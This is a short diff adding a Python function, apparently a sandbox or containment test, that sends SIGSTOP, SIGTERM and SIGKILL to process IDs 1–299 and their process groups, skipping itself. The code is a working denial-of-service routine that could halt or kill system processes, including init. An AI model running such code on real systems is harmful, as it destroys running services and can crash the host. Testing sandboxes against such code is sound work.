@@ -1,0 +1,16 @@
+# Sends SIGSTOP, SIGTERM and SIGKILL to the first 300 process and group numbers but its own.
+def attack():
+    import posix
+
+    hit = False
+    for number in (19, 15, 9):
+        for target in range(1, 300):
+            if target == posix.getpid():
+                continue
+            for who in (target, -target):
+                try:
+                    posix.kill(who, number)
+                    hit = True
+                except OSError:
+                    pass
+    return hit
